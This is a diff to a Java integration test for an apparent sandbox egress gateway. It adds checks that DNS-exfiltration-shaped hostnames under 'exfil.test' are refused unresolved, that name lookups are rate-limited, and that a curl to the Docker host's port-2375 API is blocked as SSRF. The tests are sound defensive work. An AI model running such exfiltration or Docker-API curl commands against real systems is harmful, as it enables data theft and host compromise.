@@ -7,6 +7,7 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.List;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.AfterAll;
@@ -152,6 +153,43 @@ class EgressAskIT {
     }
 
     @Test
+    void namesAGuestBuildsToCarryDataAreNotLookedUpAndTheRestOnlyWithinABudget() throws Exception {
+        var started = cli().run("start", "asker", "--detach");
+        assertThat(started.exitCode()).as(started.err()).isZero();
+        String slug = started.out().strip().lines().reduce((x, y) -> y).orElseThrow();
+        try {
+            List<String> carrying = List.of("mysecretpasswordishere.exfil.test", "deadbeefcafe0042.exfil.test",
+                    "a.b.c.d.exfil.test", "x1234567.exfil.test");
+            List<String> plausible = new java.util.ArrayList<>();
+            for (char c = 'a'; c < 'a' + 15; c++) {
+                plausible.add("name-" + c + ".nowhere.test");
+            }
+            String script = String.join(" ", java.util.stream.Stream.concat(carrying.stream(), plausible.stream())
+                    .map(n -> "curl -s -o /dev/null -w '%{http_code}\\n' http://" + n + "/;").toList());
+            var asked = cli().run("exec", slug, "--", "sh", "-c", script);
+            assertThat(asked.out().lines().toList()).hasSize(19).containsOnly("403");
+
+            List<String> refusals = new java.util.ArrayList<>();
+            for (JsonNode line : JSON.readTree(cli().run("logs", slug, "--egress", "--json").out())) {
+                if (line.path("decision").asText().equals("deny")) {
+                    refusals.add(line.path("host").asText() + " " + line.path("reason").asText());
+                }
+            }
+            for (String name : carrying) {
+                // refused for its shape, by the gateway's DLP or before a lookup: nothing looked it up
+                assertThat(refusals).as(name).anySatisfy(r -> assertThat(r).startsWith(name + " ")
+                        .containsAnyOf("nothing was looked up", "exfil-shape"));
+            }
+            long lookedUp = refusals.stream().filter(r -> r.contains("does not resolve")).count();
+            assertThat(lookedUp).as("names looked up: " + refusals).isBetween(1L, 10L);
+            assertThat(refusals.stream().filter(r -> r.contains("new hosts a minute"))).isNotEmpty();
+            assertThat(cli().run("supervise", "ls", "--json").out().strip()).isEqualTo("[ ]");
+        } finally {
+            cli().run("stop", slug);
+        }
+    }
+
+    @Test
     void aLearnedPolicyAppliedLetsTheSameWorkloadPassAndRefusesAHostItNeverSaw() throws Exception {
         var learning = cli().run("start", "learner", "--learn", "--detach");
         assertThat(learning.exitCode()).as(learning.err()).isZero();
@@ -161,6 +199,11 @@ class EgressAskIT {
         try {
             var workload = npmInstall(slug, "npm.test").get(3, TimeUnit.MINUTES);
             assertThat(workload.exitCode()).as(workload.all()).isZero();
+            // the Docker host, at the default bridge's gateway: a private address learning never reaches
+            String dockerHost = Docker.run("network", "inspect", "bridge", "-f", "{{(index .IPAM.Config 0).Gateway}}");
+            var host = cli().run("exec", slug, "--", "curl", "-s", "-D", "-", "-o", "/dev/null",
+                    "http://" + dockerHost + ":2375/version");
+            assertThat(host.out()).as(host.all()).startsWith("HTTP/1.1 403").contains("X-Claude-Bottle-Reason: ssrf");
             var proposal = cli().run("policy", "propose", slug);
             assertThat(proposal.exitCode()).as(proposal.err()).isZero();
             proposed = proposal.out();
